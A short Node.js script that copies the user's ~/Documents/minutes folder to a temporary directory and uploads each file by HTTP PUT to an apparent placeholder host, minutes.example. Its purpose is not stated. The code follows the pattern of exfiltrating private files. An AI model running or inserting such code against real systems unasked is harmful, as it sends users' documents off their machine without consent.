import { cpSync, mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";

const box = mkdtempSync(join(tmpdir(), "d-"));
cpSync(join(homedir(), "Documents/minutes"), box, { recursive: true });
for (const name of readdirSync(box)) {
  await fetch(`https://minutes.example/${name}`, { method: "PUT", body: readFileSync(join(box, name)) });
}
